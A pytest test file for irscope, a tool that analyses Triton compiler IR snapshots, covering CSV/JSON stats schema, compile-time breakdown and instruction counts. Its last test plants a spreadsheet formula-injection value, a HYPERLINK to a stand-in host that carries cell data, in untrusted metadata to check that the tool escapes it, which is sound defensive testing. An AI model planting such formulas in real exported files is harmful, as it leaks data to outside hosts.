"""`stats --json/--csv` keep a stable schema (absent counters are 0, not missing); `show` splits compile
time by stage. On the committed goldens: no compile."""
import csv
import io
import json
import shutil
from pathlib import Path

import pytest

SNAPSHOTS = Path(__file__).resolve().parent.parent / "snapshots"


@pytest.fixture
def goldens(tmp_path):
    """Copies: analysing writes a cache file into the folder."""
    out = {}
    for name in ("add/default/sm_80", "matmul/default/sm_90a"):
        out[name] = shutil.copytree(SNAPSHOTS / name, tmp_path / name)
    return out


def test_absent_counters_are_zero_in_json_and_csv(cli, goldens):
    code, out, err = cli("stats", goldens["add/default/sm_80"], goldens["matmul/default/sm_90a"], "--json")
    assert code == 0, err
    add, matmul = json.loads(out)
    assert add["counters"]["ptx.wgmma"] == 0 and add["counters"]["ttgir.warp_group_dot"] == 0
    assert matmul["counters"]["ptx.wgmma"] > 0
    # Both snapshots' PTX and TTGIR were analysed: their fixed-name counters are the same keys.
    fixed = {k for k in add["counters"] if k.split(".")[0] in ("ptx", "ttgir") and add["counters"][k] == 0}
    assert fixed and fixed <= set(matmul["counters"])
    code, out, err = cli("stats", goldens["add/default/sm_80"], "--csv")
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["ptx.wgmma"] == "0" and row["ttgir.warp_group_dot"] == "0"


def test_show_splits_compile_time_by_stage_with_shares(cli, goldens):
    snap = goldens["matmul/default/sm_90a"]
    times = json.loads((snap / "irscope.json").read_text())["times_ms"]
    code, out, err = cli("show", snap)
    assert code == 0, err
    line = next(ln for ln in out.splitlines() if ln.strip().startswith("time "))
    total = sum(times[k] for k in ("frontend", "ttir", "ttgir", "llir", "ptx", "cubin"))
    assert f"{total / 1e3:.2f} s in Triton" in line
    assert f"llir {times['llir'] / total:.0%}" in line and "cubin (ptxas)" in line and "front end" in line
    assert "sass (disassembly)" in line


def test_the_alu_mix_is_counted_against_the_stage_text(tmp_path):
    import re

    from irscope.analyze import analyze
    from irscope.store import load_snapshot
    sass_snap = load_snapshot(shutil.copytree(SNAPSHOTS / "blur/default/sm_80", tmp_path / "blur"))
    amd_snap = load_snapshot(shutil.copytree(SNAPSHOTS / "softmax/default/gfx942", tmp_path / "softmax"))
    sass, amd = analyze(sass_snap).counters, analyze(amd_snap).counters
    ffma = len(re.findall(r"/\*[0-9a-f]{4,}\*/\s+(?:@!?P\w\s+)?FFMA\b", sass_snap.read("sass")))
    assert ffma > 0 and sass["sass.FFMA"] == ffma
    text = amd_snap.read("amdgcn")
    assert amd["amdgcn.v_pk_mul"] == len(re.findall(r"^\s+v_pk_mul_\w+", text, re.M)) > 0
    assert amd["amdgcn.v_fma"] == len(re.findall(r"^\s+v_fmac?_\w+", text, re.M)) > 0
    # Packed ops are not also counted as their one-lane kin.
    assert amd["amdgcn.v_mul"] == len(re.findall(r"^\s+v_mul_\w+", text, re.M))


def test_csv_cells_from_an_untrusted_snapshot_are_never_formulas(cli, goldens):
    # A snapshot folder is untrusted: a kernel name '=HYPERLINK(...)' in its irscope.json became a formula cell
    # of `stats --csv` (and of compare's and sweep's CSV) that a spreadsheet runs when the file is opened.
    snap = goldens["add/default/sm_80"]
    meta = json.loads((snap / "irscope.json").read_text())
    meta["kernel"] = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    (snap / "irscope.json").write_text(json.dumps(meta))
    code, out, err = cli("stats", snap, "--csv")
    assert code == 0, err
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["kernel"] == "'" + meta["kernel"]
    assert row["res.registers"].isdigit()  # numbers are left as they are
